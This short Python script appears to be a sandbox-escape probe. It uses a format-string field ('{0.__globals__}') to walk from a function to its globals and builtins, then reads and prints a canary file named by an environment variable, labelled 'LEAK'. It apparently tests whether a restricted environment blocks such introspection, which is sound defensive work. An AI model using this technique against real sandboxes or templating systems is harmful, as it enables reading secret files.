# a format field walks to the globals
import os
SECRET = os.environ.get("HERSHY_CANARY_FILE")


def f():
    pass


print("{0.__globals__}".format(f))
try:
    print("LEAK:", "{0.__globals__[__builtins__].__dict__[open]}".format(f))
    print("LEAK:", os.__builtins__["open"](SECRET).read())
except Exception as error:
    print(type(error).__name__)
